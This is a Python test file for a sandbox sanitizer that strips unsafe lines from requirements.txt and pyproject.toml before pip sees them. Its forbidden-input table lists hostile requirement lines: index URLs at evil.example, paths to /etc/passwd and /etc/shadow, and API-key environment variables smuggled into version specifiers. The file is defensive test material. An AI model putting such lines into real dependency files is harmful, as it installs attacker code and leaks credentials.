"""The host-side parse of a project's dependency files: only plain specifiers reach pip."""

from __future__ import annotations

import pytest

from karma.sandbox.requirements import sanitize

FORBIDDEN = [
    ("--extra-index-url https://evil.example/simple", "option line"),
    ("--index-url=https://evil.example/simple", "option line"),
    ("-i https://evil.example/simple", "option line"),
    ("-f https://evil.example/links", "option line"),
    ("--find-links ./wheels", "option line"),
    ("--trusted-host evil.example", "option line"),
    ("-e .", "option line"),
    ("--editable git+https://evil.example/x.git#egg=x", "option line"),
    ("-r ../../etc/passwd", "option line"),
    ("-c /etc/shadow", "option line"),
    ("--requirement=other.txt", "option line"),
    ("--pre", "option line"),
    ("--no-binary :all:", "option line"),
    ("evil @ https://evil.example/evil-1.0.tar.gz", "URL"),
    ("evil@ file:///etc/passwd", "URL"),
    ("git+https://evil.example/evil.git", "URL, VCS or local path"),
    ("git+ssh://git@evil.example/evil.git#egg=evil", "URL, VCS or local path"),
    ("hg+https://evil.example/evil", "URL, VCS or local path"),
    ("https://evil.example/evil-1.0-py3-none-any.whl", "URL, VCS or local path"),
    ("./vendor/evil-1.0.tar.gz", "URL, VCS or local path"),
    ("../evil", "URL, VCS or local path"),
    ("/abs/evil.whl", "URL, VCS or local path"),
    ("evil-1.0.zip", "URL, VCS or local path"),
    ("six==${ANTHROPIC_API_KEY}", "environment variable"),
    ('six; python_version == "${OPENAI_API_KEY}"', "environment variable"),
    ("this is not a requirement ==!", "not a requirement"),
]


@pytest.mark.parametrize(("line", "why"), FORBIDDEN)
def test_a_forbidden_requirements_line_never_reaches_pip(line: str, why: str) -> None:
    parsed = sanitize({"requirements.txt": f"six==1.16.0\n{line}\nattrs  # ok\n"})
    assert parsed.specifiers == ("six==1.16.0", "attrs")
    assert "evil" not in parsed.text() and "${" not in parsed.text()
    [dropped] = parsed.dropped
    assert dropped.source == "requirements.txt:2" and why in dropped.reason
    assert dropped.text == line


def test_per_requirement_options_and_continuations_are_dropped_the_name_kept() -> None:
    text = ("six==1.16.0 \\\n    --hash=sha256:abc \\\n    --config-settings=x=y\n"
            "requests[socks] >=2 ; python_version >= '3.8'\n")  # fmt: skip
    parsed = sanitize({"requirements.txt": text})
    assert parsed.specifiers == ("six==1.16.0", 'requests[socks]>=2; python_version >= "3.8"')
    assert [d.reason for d in parsed.dropped] == ["a per-requirement option"]


def test_pyproject_gives_dependencies_test_extras_groups_and_build_requires() -> None:
    pyproject = """
[build-system]
requires = ["hatchling>=1.20"]

[project]
name = "My_Proj"
dependencies = ["click>=8", "evil @ https://evil.example/e.whl"]

[project.optional-dependencies]
Test = ["my-proj[extra]", "pytest-mock"]
docs = ["sphinx"]

[dependency-groups]
dev = ["ruff", {include-group = "typing"}, "git+https://evil.example/x.git"]
typing = ["mypy", {include-group = "dev"}]
lint = ["black"]
"""
    parsed = sanitize(
        {"pyproject.toml": pyproject, "requirements.txt": "six\n-e .\nmy_proj\n"}, extra=["pytest"]
    )
    assert parsed.specifiers == (
        "pytest", "six", "click>=8", "pytest-mock", "ruff", "mypy", "hatchling>=1.20",
    )  # fmt: skip
    reasons = {d.text: d.reason for d in parsed.dropped}
    assert "URL" in reasons["evil @ https://evil.example/e.whl"]
    assert "project itself" in reasons["my-proj[extra]"] and "project itself" in reasons["my_proj"]
    assert "URL, VCS" in reasons["git+https://evil.example/x.git"]
    assert "cycle" in reasons["dev"]


def test_a_broken_pyproject_is_reported_not_fatal() -> None:
    parsed = sanitize({"pyproject.toml": "[project\nname=", "requirements.txt": "six\n"})
    assert parsed.specifiers == ("six",)
    assert "not valid TOML" in parsed.dropped[0].reason


def test_other_dependency_files_are_hashed_not_read() -> None:
    parsed = sanitize({"setup.py": "import os; os.system('x')", "uv.lock": "junk"})
    assert parsed.specifiers == () and parsed.dropped == ()
